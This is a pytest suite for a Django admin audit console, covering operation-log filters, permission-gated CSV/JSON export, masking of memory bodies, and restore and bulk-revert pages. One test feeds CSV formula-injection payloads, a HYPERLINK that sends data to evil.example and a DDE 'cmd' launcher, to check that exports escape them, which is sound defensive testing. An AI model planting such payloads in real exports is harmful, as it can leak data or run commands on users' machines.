"""The audit console in the admin (palace/admin/console.py, memory/admin/audit.py) through the test client: the
filters, before → after, the CSV and JSON export (the filtered trail, behind the export permission), the history
page without bodies for an auditor, and the restore pages refused without `memory.restore_memory`."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
import time_machine
from django.contrib.auth.models import Permission
from django.test import Client

from memory.lifecycle import memory_forget, memory_report, memory_update
from memory.models import Memory
from memory.save import memory_save
from palace.actors import Actor
from palace.models import OpLog, Palace
from palace.oplog import before_after, op_class

CONSOLE = "/admin/palace/oplog/"
EXPORT = "/admin/palace/oplog/export/"
BODY = "The vault combination is under the blue mug"
NIGHT = datetime(2026, 11, 30, 1, 0, tzinfo=UTC)


def staff_client(make_user: Callable[..., Any], name: str, *codenames: str, admin: bool = False) -> Client:
    user = make_user(name, admin=admin)
    user.is_staff = True
    user.save()
    user.user_permissions.set(Permission.objects.filter(codename__in=codenames))
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def trail(alice: Any, project: Palace) -> dict[str, Any]:
    """Alice saves in her palace (as herself) and in the project (through a token) at different times; the token
    forgets one memory; a job archives nothing (it writes its own row)."""
    personal = Palace.objects.get(personal_owner=alice)
    token = Actor.for_token(alice, 42, "laptop-agent")
    with time_machine.travel(NIGHT - timedelta(days=2), tick=False):
        mine = memory_save(palace=personal, actor=Actor.for_user(alice), content=BODY, kind="fact").memory
    with time_machine.travel(NIGHT, tick=False):
        shared = memory_save(palace=project, actor=token, content="The demo deploys from main.", kind="decision")
        assert shared.memory is not None
        memory_forget(memory_id=shared.memory.pk, actor=token, reason="wrong branch")
        memory_report(memory_id=mine.pk if mine else 0, actor=Actor.for_user(alice), outcome="failure")
    assert mine is not None
    return {"mine": mine, "shared": shared.memory, "personal": personal, "project": project}


def streamed(response: Any) -> bytes:
    return b"".join(response.streaming_content)


def rows_of(page: Any) -> str:
    assert page.status_code == 200, page.status_code
    return str(page.content.decode())


def test_op_classes_and_before_after_read_the_detail() -> None:
    assert [op_class(op) for op in ("memory.save", "memory.update", "memory.forget", "review.grade")] == [
        "writes",
        "corrections",
        "forgetting",
        "review",
    ]
    assert [op_class(op) for op in ("member.set", "judge.settings", "room.rename", "weird.thing")] == [
        "admin",
        "judge",
        "structure",
        "other",
    ]
    changes = before_after(op="memory.forget", detail={"from_status": "active"})
    assert [(c.field, c.before, c.after) for c in changes] == [("status", "active", "forgotten")]
    rename = before_after(op="room.rename", detail={"from": "Fact Hall", "to": "Facts"})
    assert [(c.field, c.before, c.after) for c in rename] == [("name", "Fact Hall", "Facts")]
    edge = before_after(op="edge.close", detail={"from": 1, "to": 2})  # edge ends, not a change
    assert edge == []
    generic = before_after(op="admin.change", detail={"changes": {"role": ["viewer", "editor"]}})
    assert [(c.field, c.before, c.after) for c in generic] == [("role", "viewer", "editor")]


def test_filters_select_by_class_actor_palace_memory_and_time(
    trail: dict[str, Any], make_user: Callable[..., Any]
) -> None:
    auditor = staff_client(make_user, "auditor", "view_oplog")
    shared, mine = trail["shared"], trail["mine"]
    everything = rows_of(auditor.get(CONSOLE))
    assert "memory.forget" in everything and "memory.save" in everything and "user.create" in everything
    forgetting = rows_of(auditor.get(CONSOLE, {"class": "forgetting"}))
    assert "memory.forget" in forgetting and "memory.save" not in forgetting
    assert "status: active → forgotten" in forgetting  # before → after
    tokens = rows_of(auditor.get(CONSOLE, {"actor_class": "token"}))
    assert "laptop-agent" in tokens and "memory.report" not in tokens
    by_token = rows_of(auditor.get(CONSOLE, {"actor": "token:42"}))
    assert f"memory #{shared.pk}" in by_token and f"memory #{mine.pk}" not in by_token
    by_alice = rows_of(auditor.get(CONSOLE, {"actor": "alice", "class": "review"}))
    assert "memory.report" in by_alice and "confidence:" in by_alice
    jobs = rows_of(auditor.get(CONSOLE, {"actor_class": "job"}))
    assert "user.create" in jobs and "laptop-agent" not in jobs
    project = rows_of(auditor.get(CONSOLE, {"palace": str(trail["project"].pk)}))
    assert f"memory #{shared.pk}" in project and f"memory #{mine.pk}" not in project
    one = rows_of(auditor.get(CONSOLE, {"memory": str(mine.pk)}))
    assert f"memory #{mine.pk}" in one and f"memory #{shared.pk}" not in one
    night = rows_of(auditor.get(CONSOLE, {"since": "2026-11-30", "until": "2026-11-30", "memory": str(mine.pk)}))
    assert "memory.report" in night and "memory.save" not in night
    before = rows_of(auditor.get(CONSOLE, {"until": "2026-11-29"}))
    assert f"memory #{mine.pk}" in before and f"memory #{shared.pk}" not in before
    bad = rows_of(auditor.get(CONSOLE, {"memory": "not-a-number"}))
    assert "cannot read" in bad and f"memory #{mine.pk}" not in bad


def test_export_needs_the_permission_and_keeps_the_filters(
    trail: dict[str, Any], make_user: Callable[..., Any]
) -> None:
    auditor = staff_client(make_user, "auditor", "view_oplog")
    listing = rows_of(auditor.get(CONSOLE))
    assert "Export CSV" not in listing
    assert auditor.get(EXPORT, {"format": "csv"}).status_code == 403
    root = staff_client(make_user, "root", admin=True)
    assert "Export CSV" in rows_of(root.get(CONSOLE))
    shared = trail["shared"]
    response = root.get(EXPORT, {"format": "csv", "actor": "token:42"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response.streaming
    table = list(csv.DictReader(io.StringIO(streamed(response).decode())))
    assert {r["op"] for r in table} == {"memory.save", "memory.forget"}
    forget = next(r for r in table if r["op"] == "memory.forget")
    assert forget["target_id"] == str(shared.pk) and forget["reason"] == "wrong branch"
    assert forget["before_after"] == "status: active → forgotten" and forget["op_class"] == "forgetting"
    assert json.loads(forget["detail"]) == {"from_status": "active"}
    assert BODY not in streamed(root.get(EXPORT, {"format": "csv"})).decode()

    document = json.loads(streamed(root.get(EXPORT, {"format": "json", "class": "forgetting"})))
    assert document["filters"] == {"class": "forgetting"} and document["exported_by"] == "root"
    assert [r["op"] for r in document["rows"]] == ["memory.forget"]
    assert document["rows"][0]["changes"] == [{"field": "status", "before": "active", "after": "forgotten"}]
    assert root.get(EXPORT, {"format": "xml"}).status_code == 400


def test_csv_export_quotes_cells_a_spreadsheet_would_run_as_formulas(make_user: Callable[..., Any]) -> None:
    """A cell that starts with =, +, - or @ gets a leading apostrophe in the CSV (a spreadsheet shows it as text
    instead of running it); a plain text and a negative number are left alone, and the JSON export is not altered."""
    mallory = make_user("@mallory")  # a legal username a spreadsheet would read as a function call
    reasons = {
        '=HYPERLINK("http://evil.example/?x="&A1,"details")': True,
        "+SUM(1,2)": True,
        "-2+3+cmd|' /C calc'!A0": True,
        "@SUM(1,1)": True,
        "-5": False,  # a number, not a formula
        "the branch was wrong": False,
    }
    rows = {
        OpLog.objects.create(
            op="memory.report", actor_kind="user", actor_user=mallory, actor_name="@mallory", reason=reason,
            target_kind="memory", target_id=1, detail={"note": reason},
        ).pk: reason
        for reason in reasons
    }  # fmt: skip
    root = staff_client(make_user, "root", admin=True)
    table = {
        int(r["id"]): r for r in csv.DictReader(io.StringIO(streamed(root.get(EXPORT, {"format": "csv"})).decode()))
    }
    for pk, reason in rows.items():
        expected = "'" + reason if reasons[reason] else reason
        assert table[pk]["reason"] == expected, (reason, table[pk]["reason"])
        assert table[pk]["actor"] == "'@mallory"
        assert json.loads(table[pk]["detail"]) == {"note": reason}  # a JSON cell starts with "{": left as it is
    document = json.loads(streamed(root.get(EXPORT, {"format": "json"})))
    assert {r["id"]: r["reason"] for r in document["rows"] if r["id"] in rows} == rows  # JSON carries the text as is


def test_export_streams_every_page(alice: Any, make_user: Callable[..., Any]) -> None:
    """More rows than one page of the stream (500): all of them, newest first, none twice."""
    from palace.oplog import export as oplog_export

    personal = Palace.objects.get(personal_owner=alice)
    memory = memory_save(palace=personal, actor=Actor.for_user(alice), content=BODY, kind="fact").memory
    assert memory is not None
    for _ in range(3):
        memory_report(memory_id=memory.pk, actor=Actor.for_user(alice), outcome="success")
    root = staff_client(make_user, "root", admin=True)
    original = oplog_export.PAGE
    oplog_export.PAGE = 2
    try:
        response = root.get(EXPORT, {"format": "json", "memory": str(memory.pk)})
        ids = [r["id"] for r in json.loads(streamed(response))["rows"]]
    finally:
        oplog_export.PAGE = original
    expected = list(
        OpLog.objects.filter(target_kind="memory", target_id=memory.pk).order_by("-pk").values_list("pk", flat=True)
    )
    assert ids == expected and len(ids) == 4


def test_history_page_shows_bodies_only_with_the_body_permission(
    trail: dict[str, Any], make_user: Callable[..., Any], alice: Any
) -> None:
    mine = trail["mine"]
    corrected = memory_update(memory_id=mine.pk, actor=Actor.for_user(alice), content="The vault moved to the safe.")
    url = f"/admin/memory/memory/{corrected.pk}/full-history/"
    auditor = staff_client(make_user, "auditor", "view_memory", "view_oplog")
    page = rows_of(auditor.get(url))
    assert f'id="version-{mine.pk}"' in page and f'id="version-{corrected.pk}"' in page  # the versions
    assert "memory.update" in page and "memory.report" in page  # the ops of the whole chain
    assert BODY not in page and "safe" not in page and "Bodies hidden" in page
    assert "Check out" not in page and "revert…" not in page  # no restore buttons without the permission
    reader = staff_client(make_user, "reader", "view_memory", "view_memory_body")
    page = rows_of(reader.get(url))
    assert BODY in page and "The vault moved to the safe." in page
    # The console links a memory's rows to this page.
    assert url in rows_of(auditor.get(CONSOLE, {"memory": str(corrected.pk)}))


def test_restore_pages_are_refused_without_the_permission_and_work_with_it(
    trail: dict[str, Any], make_user: Callable[..., Any]
) -> None:
    shared = trail["shared"]
    forget_row = OpLog.objects.get(op="memory.forget", target_id=shared.pk)
    auditor = staff_client(make_user, "auditor", "view_memory", "view_oplog")
    restore_url = f"/admin/memory/memory/{shared.pk}/restore-memory/"
    revert_url = f"/admin/memory/memory/revert/{forget_row.pk}/"
    assert auditor.post(restore_url, {"reason": "mistake"}).status_code == 403
    assert auditor.post(revert_url, {"reason": "mistake"}).status_code == 403
    assert auditor.get("/admin/memory/memory/bulk-revert/").status_code == 403
    assert "revert…" not in rows_of(auditor.get(CONSOLE))
    shared.refresh_from_db()
    assert shared.status == "forgotten"

    keeper = staff_client(make_user, "keeper", "view_memory", "view_oplog", "restore_memory")
    assert "revert…" in rows_of(keeper.get(CONSOLE)) and "Bulk restore" in rows_of(keeper.get(CONSOLE))
    confirm = rows_of(keeper.get(revert_url))
    assert "restore memory" in confirm and 'id="revert-form"' in confirm
    keeper.post(restore_url, {"reason": ""})  # no reason: refused, nothing changes
    shared.refresh_from_db()
    assert shared.status == "forgotten"
    done = keeper.post(revert_url, {"reason": "the branch was right"})
    assert done.status_code == 302 and done["Location"].endswith(f"/{shared.pk}/full-history/")
    shared.refresh_from_db()
    assert shared.status == "active"
    row = OpLog.objects.filter(op="memory.restore", target_id=shared.pk).get()
    assert row.actor_user is not None and row.actor_user.get_username() == "keeper"
    assert row.reason == f"the branch was right (revert of op #{forget_row.pk})"
    # A row where a revert means nothing: the page says why and offers no button.
    user_row = OpLog.objects.filter(op="user.create").latest("pk")
    refused = rows_of(keeper.get(f"/admin/memory/memory/revert/{user_row.pk}/"))
    assert "cannot be reverted" in refused and "users are kept, never deleted" in refused
    assert "revert-form" not in refused


def test_bulk_page_previews_then_applies_with_a_reason(trail: dict[str, Any], make_user: Callable[..., Any]) -> None:
    shared = trail["shared"]
    keeper = staff_client(make_user, "keeper", "view_memory", "view_oplog", "restore_memory")
    url = "/admin/memory/memory/bulk-revert/"
    form = {"actor": "token:42", "since": "2026-11-30", "until": "2026-11-30"}
    preview = rows_of(keeper.get(url, form))
    assert "Will change (2)" in preview and f"forget memory #{shared.pk}" in preview
    assert 'id="bulk-apply-form"' in preview
    shared.refresh_from_db()
    assert shared.status == "forgotten"  # the preview changed nothing
    missing = rows_of(keeper.post(url, {**form, "reason": ""}))
    assert "reason is required" in missing
    assert not OpLog.objects.filter(op="memory.bulk_revert").exists()
    applied = rows_of(keeper.post(url, {**form, "reason": "the laptop agent went rogue"}))
    assert "Applied: 2 reverted" in applied
    shared.refresh_from_db()
    assert shared.status == "forgotten"  # its forget undone, then its save undone
    assert Memory.objects.get(pk=trail["mine"].pk).status == "active"  # alice's own memory untouched
    assert OpLog.objects.get(op="memory.bulk_revert").reason == "the laptop agent went rogue"
    unknown = rows_of(keeper.get(url, {**form, "actor": "nobody-here"}))
    assert "no user named" in unknown


def test_history_page_query_count_does_not_grow_with_its_rows(
    trail: dict[str, Any], make_user: Callable[..., Any], alice: Any, django_assert_max_num_queries: Any
) -> None:
    """The revert column is computed for all rows at once (one query for what was reverted), not a query per row."""
    mine = trail["mine"]
    keeper = staff_client(make_user, "keeper", "view_memory", "view_oplog", "restore_memory")
    url = f"/admin/memory/memory/{mine.pk}/full-history/"
    keeper.get(url)  # warm the session and content types
    with django_assert_max_num_queries(30):
        few = rows_of(keeper.get(url))
    for _ in range(30):
        memory_report(memory_id=mine.pk, actor=Actor.for_user(alice), outcome="success")
    with django_assert_max_num_queries(30):
        many = rows_of(keeper.get(url))
    assert few.count('id="op-') + 30 == many.count('id="op-')
    assert many.count("revert…") == 2  # the newest report (its confidence is current) and the save


def test_bad_input_gets_a_message_not_an_error(trail: dict[str, Any], make_user: Callable[..., Any]) -> None:
    keeper = staff_client(make_user, "keeper", "view_memory", "view_oplog", "restore_memory", admin=True)
    missing = keeper.get("/admin/memory/memory/999999/full-history/", follow=True)
    assert missing.status_code == 200 and "Memory not found" in missing.content.decode()
    gone = keeper.get("/admin/memory/memory/revert/999999/", follow=True)
    assert gone.status_code == 200 and "Op row not found" in gone.content.decode()
    bad_dates = rows_of(keeper.get("/admin/memory/memory/bulk-revert/", {"actor": "alice", "since": "x", "until": "y"}))
    assert "must be dates" in bad_dates
    bad_token = rows_of(
        keeper.get(
            "/admin/memory/memory/bulk-revert/", {"actor": "token:x", "since": "2026-11-30", "until": "2026-11-30"}
        )
    )
    assert "token:ID" in bad_token
    bad_year = keeper.get(EXPORT, {"format": "csv", "created_at__year": "not-a-year"})
    assert bad_year.status_code == 400 and b"the filters are not valid" in bad_year.content
    good_year = keeper.get(EXPORT, {"format": "csv", "created_at__year": "2026"})  # the control: a valid filter
    assert good_year.status_code == 200 and good_year["Content-Type"].startswith("text/csv")
    assert rows_of(keeper.get(CONSOLE, {"since": "2026-02-30"})).count('id="result_list"') == 0
    assert "cannot read" in rows_of(keeper.get(CONSOLE, {"actor": "token:abc"}))
    checkout = keeper.post(f"/admin/memory/memory/{trail['mine'].pk}/checkout/", {"reason": "try"}, follow=True)
    assert checkout.status_code == 200 and "not an earlier version" in checkout.content.decode()


def test_console_query_count_does_not_grow_with_its_rows(
    trail: dict[str, Any], make_user: Callable[..., Any], alice: Any
) -> None:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    keeper = staff_client(make_user, "keeper", "view_oplog", "restore_memory")
    keeper.get(CONSOLE)
    with CaptureQueriesContext(connection) as few:
        small = rows_of(keeper.get(CONSOLE))
    for _ in range(20):
        memory_report(memory_id=trail["mine"].pk, actor=Actor.for_user(alice), outcome="failure")
    with CaptureQueriesContext(connection) as many:
        large = rows_of(keeper.get(CONSOLE))
    assert large.count("<tr") >= small.count("<tr") + 20
    assert len(many.captured_queries) == len(few.captured_queries)


def test_a_row_page_masks_what_was_written_about_a_memory_without_the_body_permission(
    alice: Any, make_user: Callable[..., Any]
) -> None:
    personal = Palace.objects.get(personal_owner=alice)
    saved = memory_save(palace=personal, actor=Actor.for_user(alice), content=BODY, kind="fact").memory
    assert saved is not None
    # As a tombstone's restore records the epitaph it cleared (memory/save/tombstones.py).
    row = OpLog.objects.create(
        op="memory.restore", actor_kind="user", actor_name="alice", actor_user=alice, palace=personal,
        target_kind="memory", target_id=saved.pk, detail={"epitaph": "under the blue mug", "status": "active"},
    )  # fmt: skip
    page = f"{CONSOLE}{row.pk}/change/"
    auditor = staff_client(make_user, "auditor", "view_oplog")
    reader = staff_client(make_user, "reader", "view_oplog", "view_memory_body")
    shown = auditor.get(page).content.decode()
    assert "(body, not recorded)" in shown and "blue mug" not in shown
    assert "blue mug" in reader.get(page).content.decode()  # the positive control: the body permission shows it
    # The export likewise, for an exporter without the body permission (and with it, the positive control).
    exporter = staff_client(make_user, "exporter", "view_oplog", "export_memory")
    full = staff_client(make_user, "fullexporter", "view_oplog", "export_memory", "view_memory_body")
    masked = streamed(exporter.get(EXPORT, {"format": "json", "memory": str(saved.pk)})).decode()
    assert "(body, not recorded)" in masked and "blue mug" not in masked
    assert "blue mug" in streamed(full.get(EXPORT, {"format": "json", "memory": str(saved.pk)})).decode()


def test_export_masks_member_reasons_and_body_changes_without_the_body_permission(
    trail: dict[str, Any], make_user: Callable[..., Any]
) -> None:
    """The CSV and JSON export show what the console's screen shows: a member's reason (a forget's reason is its
    epitaph) and a body in a detail's before → after are masked for an exporter without `memory.view_memory_body`,
    shown to one with it; staff's admin reasons stay readable to both (issue 24, Low)."""
    shared, alice = trail["shared"], trail["personal"].personal_owner
    OpLog.objects.create(
        op="memory.restore", actor_kind="user", actor_name="alice", actor_user=alice, palace=trail["project"],
        target_kind="memory", target_id=shared.pk, reason="the blue mug was moved",
        detail={"before": {"epitaph": "under the blue mug"}, "after": {"epitaph": ""}},
    )  # fmt: skip
    OpLog.objects.create(
        op="admin.change", actor_kind="system", actor_name="admin", palace=trail["project"],
        target_kind="memory", target_id=shared.pk, reason="staff fixed a typo", detail={},
    )  # fmt: skip
    exporter = staff_client(make_user, "exporter", "view_oplog", "export_memory")
    full = staff_client(make_user, "fullexporter", "view_oplog", "export_memory", "view_memory_body")
    query = {"memory": str(shared.pk)}

    def both(client: Client) -> tuple[dict[str, dict[str, str]], dict[str, dict[str, Any]]]:
        table = csv.DictReader(io.StringIO(streamed(client.get(EXPORT, {"format": "csv", **query})).decode()))
        document = json.loads(streamed(client.get(EXPORT, {"format": "json", **query})))
        return {r["op"]: r for r in table}, {r["op"]: r for r in document["rows"]}

    masked_csv, masked_json = both(exporter)
    shown_csv, shown_json = both(full)
    hidden = "(hidden: reading what people wrote"
    for rows in (masked_csv, masked_json):
        assert rows["memory.forget"]["reason"].startswith(hidden)
        assert rows["memory.restore"]["reason"].startswith(hidden)
        assert rows["admin.change"]["reason"] == "staff fixed a typo"
    assert masked_csv["memory.restore"]["before_after"] == "epitaph: (body, not recorded) → —"
    assert masked_json["memory.restore"]["changes"] == [
        {"field": "epitaph", "before": "(body, not recorded)", "after": ""}
    ]
    for text in (json.dumps(masked_json), json.dumps(masked_csv)):
        assert "blue mug" not in text and "wrong branch" not in text
    # The positive control: the body permission shows every one of them, in both formats.
    for rows in (shown_csv, shown_json):
        assert rows["memory.forget"]["reason"] == "wrong branch"
        assert rows["memory.restore"]["reason"] == "the blue mug was moved"
        assert rows["admin.change"]["reason"] == "staff fixed a typo"
    assert shown_csv["memory.restore"]["before_after"] == "epitaph: under the blue mug → —"
    assert shown_json["memory.restore"]["changes"][0]["before"] == "under the blue mug"
